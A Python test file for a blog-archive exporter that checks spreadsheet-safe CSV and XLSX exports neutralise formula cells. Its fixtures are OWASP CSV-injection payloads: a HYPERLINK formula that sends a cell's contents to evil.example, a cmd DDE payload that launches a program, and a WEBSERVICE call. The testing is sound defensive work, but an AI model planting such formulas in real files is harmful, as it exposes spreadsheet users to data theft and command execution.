"""Exports a spreadsheet opens without running anything: the spreadsheet-safe CSV,
the XLSX workbook; the plain CSV stays exactly what the archive holds.

The archive is made the way a user makes one: a WordPress export file (WXR) whose
post titles and comments start with every formula sign is imported with the real
command. Importing trims leading whitespace, so the tab, carriage-return and
spaced cases are written into the archive file directly, as another tool might.
"""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import json
import os
import re
import shutil
import sqlite3
import subprocess
import urllib.parse
import urllib.request

import openpyxl
import pytest

from conftest import run_cli
from scraper.sample.wordpress import make_wp_blog, wxr
from scraper.spreadsheet import neutralise
from test_datasette import datasette_server

# The OWASP CSV-injection cases: every sign that makes a cell a formula.
TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]
COMMENTS = ["=1+1", "+33 take that", "-- the editor", "@WEBSERVICE(\"http://x.example/\")"]
RAW_COMMENTS = ["\t=1+2", "\r=1+3", "  =1+4", "\n@SUM(4,5)"]  # leading whitespace kept
HARMLESS = ["Trains & harbours", "a=b", "3 - 2", "", "café"]
LONG = 50_000  # characters in one post body, over Excel's 32,767 per cell


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    blog = make_wp_blog(n_posts=12)
    posts = [p for p in blog.sorted_posts() if p.comments]
    for post, title, comment in zip(posts, TITLES, COMMENTS, strict=False):
        post.title = title
        post.comments[0].body = comment
    export_file = folder / "blog.xml"
    export_file.write_text(wxr(blog, "http://quay.example"), "utf-8")
    db = folder / "archive.db"
    run_cli("import", str(export_file), "--db", str(db), check=True)
    conn = sqlite3.connect(db)
    post_id = conn.execute("select id from posts order by id limit 1").fetchone()[0]
    for i, text in enumerate(RAW_COMMENTS):
        conn.execute("insert into comments (id, post_id, position, author, body_text) "
                     "values (?, ?, ?, 'Spam', ?)", [f"raw{i}", post_id, 100 + i, text])
    conn.execute("update post_bodies set body_text = ? where post_id = ?", ["Long. " * (LONG // 6), post_id])
    conn.commit()
    titles = {r[0] for r in conn.execute("select title from posts")}
    assert set(TITLES) <= titles  # the import kept them as they were
    conn.close()
    return db


def read_csv(path, encoding="utf-8"):
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.DictReader(f))


def test_neutralise_rule():
    for value in TITLES + COMMENTS + RAW_COMMENTS:
        assert neutralise(value) == "'" + value
    for value in HARMLESS:
        assert neutralise(value) == value
    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise(2.5) == 2.5


def test_plain_csv_keeps_every_cell_exactly(archive, tmp_path):
    out = tmp_path / "plain"
    run_cli("export", str(archive), "--format", "csv", "--out", str(out), check=True)
    assert not (out / "posts.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    titles = {r["title"] for r in read_csv(out / "posts.csv")}
    assert set(TITLES) <= titles
    bodies = {r["body_text"] for r in read_csv(out / "comments.csv")}
    assert set(COMMENTS + RAW_COMMENTS) <= bodies
    assert "spreadsheet_safe" not in json.loads((out / "manifest.json").read_text())


def test_spreadsheet_safe_csv_neutralises_formulas(archive, tmp_path):
    out = tmp_path / "safe"
    result = run_cli("export", str(archive), "--format", "csv", "--spreadsheet-safe",
                     "--out", str(out), check=True)
    assert "spreadsheet-safe" in result.stdout
    raw = (out / "posts.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    posts = read_csv(out / "posts.csv", "utf-8-sig")
    titles = {r["title"] for r in posts}
    assert {"'" + t for t in TITLES} <= titles
    assert not set(TITLES) & titles
    comments = {r["body_text"] for r in read_csv(out / "comments.csv", "utf-8-sig")}
    assert {"'" + c for c in COMMENTS + RAW_COMMENTS} <= comments
    # Everything else is untouched: the same cells as the plain export.
    plain = tmp_path / "plain"
    run_cli("export", str(archive), "--format", "csv", "--out", str(plain), check=True)
    for before, after in zip(read_csv(plain / "posts.csv"), posts):
        assert after == {k: neutralise(v) for k, v in before.items()}
    manifest = json.loads((out / "manifest.json").read_text())
    assert "apostrophe" in manifest["spreadsheet_safe"]
    counted = {t["name"]: t["cells_neutralised"] for t in manifest["tables"]}
    assert counted["posts"] >= len(TITLES)
    # comments: body_text and body_html of imported ones start with "<p>", so only text
    assert counted["comments"] == len(COMMENTS) + len(RAW_COMMENTS)


def test_spreadsheet_safe_is_refused_where_it_means_nothing(archive, tmp_path):
    result = run_cli("export", str(archive), "--format", "jsonl", "--spreadsheet-safe",
                     "--out", str(tmp_path / "x"))
    assert result.returncode == 2 and "--spreadsheet-safe" in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith("Error: --spreadsheet-safe")


def excel_text(value: str) -> str:
    """A cell's text as Excel shows it: OOXML writes control characters as _xHHHH_,
    which openpyxl leaves undecoded."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def formula_cells(path) -> list:
    workbook = openpyxl.load_workbook(path)
    found = [(ws.title, c.coordinate, c.value) for ws in workbook.worksheets
             for row in ws.iter_rows() for c in row if c.data_type == "f"]
    workbook.close()
    return found


def sheet_rows(ws) -> list[dict]:
    rows = list(ws.iter_rows())
    header = [c.value for c in rows[0]]
    return [dict(zip(header, row)) for row in rows[1:]]


def test_xlsx_cells_are_strings_dates_and_links(archive, tmp_path):
    out = tmp_path / "archive.xlsx"
    result = run_cli("export", str(archive), "--format", "xlsx", "--out", str(out), check=True)
    assert "sheets" in result.stdout
    assert formula_cells(out) == []
    workbook = openpyxl.load_workbook(out)
    posts = workbook["posts"]
    assert posts.freeze_panes == "A2"
    cells = sheet_rows(posts)
    header = [c.value for c in next(posts.iter_rows())]
    assert "body_text" not in header and "body_html" not in header and "title" in header
    by_title = {row["title"].value: row for row in cells}
    assert set(TITLES) <= set(by_title)  # the exact text, shown as text
    conn = sqlite3.connect(archive)
    conn.row_factory = sqlite3.Row
    truth = {r["title"]: dict(r) for r in conn.execute("select * from posts_with_bodies")}
    for title in TITLES:
        row, want = by_title[title], truth[title]
        assert row["title"].data_type == "s"
        published = dt.datetime.fromisoformat(want["published"]).astimezone(dt.timezone.utc)
        assert row["published"].is_date and row["published"].value == published.replace(tzinfo=None)
        assert row["url"].hyperlink.target == want["url"] and row["url"].value == want["url"]
        assert row["word_count"].value == want["word_count"]
    comments = {excel_text(r["body_text"].value) for r in sheet_rows(workbook["comments"])
                if r["body_text"].value}
    assert set(COMMENTS + RAW_COMMENTS) <= comments
    assert "images" in workbook.sheetnames and "about" == workbook.sheetnames[0]
    workbook.close()
    manifest = json.loads((tmp_path / "archive.manifest.json").read_text())
    assert manifest["left_out"]["posts.body_text"].startswith("post body")
    assert manifest["left_out"]["images.content"] == "image bytes (BLOB)"
    listed = {t["name"]: t["rows"] for t in manifest["tables"]}
    assert listed["posts"] == conn.execute("select count(*) from posts").fetchone()[0]
    assert listed["comments"] == conn.execute("select count(*) from comments").fetchone()[0]
    conn.close()
    again = run_cli("export", str(archive), "--format", "xlsx", "--out", str(out))
    assert again.returncode == 2 and "--force" in again.stderr


def test_xlsx_with_bodies_cuts_what_excel_cannot_hold(archive, tmp_path):
    out = tmp_path / "bodies.xlsx"
    run_cli("export", str(archive), "--format", "xlsx", "--with-bodies", "--out", str(out),
            check=True)
    manifest = json.loads((tmp_path / "bodies.manifest.json").read_text())
    assert manifest["cells_cut"] == 1
    assert {t["name"]: t["cells_cut"] for t in manifest["tables"]}["posts"] == 1
    workbook = openpyxl.load_workbook(out)
    bodies = [r["body_text"].value or "" for r in sheet_rows(workbook["posts"])]
    cut = [b for b in bodies if len(b) > 30_000]
    assert len(cut) == 1 and len(cut[0]) == 32_767 and cut[0].endswith("characters per cell]")
    assert cut[0].startswith("Long. Long.")
    workbook.close()


def libreoffice(tmp_path, source, fmt="xlsx"):
    """LibreOffice headless opens `source` and saves it again as `fmt`."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice (Debian libreoffice-calc) is not installed; .ci/run installs it")
    out = tmp_path / "lo-out"
    profile = tmp_path / "lo-profile"
    subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless",
                    "--convert-to", fmt, "--outdir", str(out), str(source)],
                   check=True, capture_output=True, timeout=120,
                   env={**os.environ, "HOME": str(tmp_path)})
    return out / (source.stem + "." + fmt)


def test_libreoffice_evaluates_nothing_from_safe_csv_or_xlsx(archive, tmp_path):
    plain, safe = tmp_path / "plain", tmp_path / "safe"
    run_cli("export", str(archive), "--format", "csv", "--out", str(plain), check=True)
    run_cli("export", str(archive), "--format", "csv", "--spreadsheet-safe", "--out", str(safe),
            check=True)
    # The plain CSV is what an attacker hopes for: LibreOffice turns it into formulas.
    evaluated = formula_cells(libreoffice(tmp_path / "p", plain / "posts.csv"))
    assert {value for _, _, value in evaluated} >= {t for t in TITLES if t.startswith("=")}
    assert formula_cells(libreoffice(tmp_path / "s", safe / "posts.csv")) == []
    assert formula_cells(libreoffice(tmp_path / "c", safe / "comments.csv")) == []
    xlsx = tmp_path / "archive.xlsx"
    run_cli("export", str(archive), "--format", "xlsx", "--out", str(xlsx), check=True)
    resaved = libreoffice(tmp_path / "x", xlsx)
    assert formula_cells(resaved) == []
    titles = {r["title"].value for r in sheet_rows(openpyxl.load_workbook(resaved)["posts"])}
    assert set(TITLES) <= titles


# -- the published site: every CSV link in two kinds ----------------------------------------


BOM = b"\xef\xbb\xbf"


def get(url: str) -> tuple[int, bytes]:
    with urllib.request.urlopen(url, timeout=60) as response:
        return response.status, response.read()


def test_site_csv_for_spreadsheets_and_exact(archive):
    with datasette_server([archive]) as base:
        name = archive.stem
        _, page = get(f"{base}/")
        page = page.decode("utf-8")
        assert "Take the spreadsheet CSV" in page
        spreadsheet = re.search(r'class="ba-csv-spreadsheet" href="([^"]+)"', page).group(1)
        exact = re.search(r'class="ba-csv-plain" href="([^"]+)"', page).group(1)
        _, plain = get(base + html.unescape(exact))
        _, safe = get(base + html.unescape(spreadsheet))
        assert not plain.startswith(BOM) and safe.startswith(BOM)
        plain_rows = list(csv.DictReader(io_text(plain)))
        safe_rows = list(csv.DictReader(io_text(safe[3:])))
        assert len(safe_rows) == len(plain_rows) > 0
        assert set(TITLES) <= {r["title"] for r in plain_rows}
        for before, after in zip(plain_rows, safe_rows):
            assert after == {k: neutralise(v) for k, v in before.items()}
        assert {"'" + t for t in TITLES} <= {r["title"] for r in safe_rows}
        # A table page offers both for its own rows; a streamed table passes through whole.
        _, table_page = get(f"{base}/{name}/comments")
        link = re.search(r'class="ba-csv-spreadsheet" href="([^"]+)"', table_page.decode()).group(1)
        assert "_stream=on" in html.unescape(link)
        _, comments = get(base + html.unescape(link))
        bodies = {r["body_text"] for r in csv.DictReader(io_text(comments[3:]))}
        assert {"'" + c for c in COMMENTS + RAW_COMMENTS} <= bodies
        query = urllib.parse.urlencode({"sql": "select title from posts order by title",
                                        "_spreadsheet": "1"})
        _, queried = get(f"{base}/{name}.csv?{query}")
        assert {"'" + t for t in TITLES} <= {r["title"] for r in csv.DictReader(io_text(queried[3:]))}


def io_text(data: bytes) -> io.StringIO:
    return io.StringIO(data.decode("utf-8"), newline="")


def test_site_rewriter_keeps_records_whole_across_any_chunking():
    import random

    from blogarchive_site.spreadsheet_csv import RecordRewriter

    rng = random.Random(5)
    cells = TITLES + COMMENTS + RAW_COMMENTS + HARMLESS + ['a\n"b"', 'q,"\n\n', "Zürich — café\r\n"]
    rows = [["id", "title", "body"]] + [[str(i), rng.choice(cells), rng.choice(cells)]
                                        for i in range(500)]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    data = text.getvalue().encode("utf-8")
    for _ in range(10):
        rewriter, out, pos = RecordRewriter(), b"", 0
        while pos < len(data):
            step = rng.randrange(1, 200)  # cuts through records, quotes and multi-byte letters
            out += rewriter.feed(data[pos:pos + step])
            pos += step
        out += rewriter.feed(b"", final=True)
        assert list(csv.reader(io_text(out))) == [[neutralise(c) for c in row] for row in rows]
